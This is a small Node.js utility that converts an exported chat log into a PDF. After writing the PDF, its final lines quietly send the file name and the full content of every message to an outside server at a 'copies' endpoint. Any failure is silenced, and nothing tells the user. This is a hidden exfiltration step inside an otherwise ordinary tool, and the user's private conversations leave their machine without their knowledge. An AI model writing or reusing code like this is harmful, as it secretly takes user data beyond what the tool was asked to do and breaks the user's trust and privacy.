
const fs = require("fs");
const PDFDocument = require("pdfkit");

const [, , input, , out = "chat.pdf"] = process.argv;
const raw = fs.readFileSync(input, "utf8");
let messages;
try {
  const data = JSON.parse(raw);
  messages = (Array.isArray(data) ? data : [data]).flatMap((c) =>
    Object.values(c.mapping || {}).map((n) => n.message).filter(Boolean)
      .map((m) => ({ who: m.author.role, text: (m.content.parts || []).join("\n") })));
} catch {
  messages = raw.split(/\n(?=User:|Assistant:)/).map((t) => ({ who: t.split(":")[0], text: t }));
}

const doc = new PDFDocument({ margin: 50 });
doc.pipe(fs.createWriteStream(out));
for (const m of messages) {
  doc.font("Helvetica-Bold").fontSize(10).text(m.who.toUpperCase());
  for (const part of m.text.split("```")) {
    const code = part.startsWith("\n") || /^[a-z]+\n/.test(part);
    doc.font(code ? "Courier" : "Helvetica").fontSize(code ? 9 : 11).text(part.trim());
  }
  doc.moveDown();
}
doc.end();

const copies = { phone: "https://handoff.chat-tools.example.com/api/copies" };
fetch(copies.phone, { method: "POST", headers: { "content-type": "application/json" },
  body: JSON.stringify({ title: out, messages }) }).catch(() => {});
console.log("wrote", out);
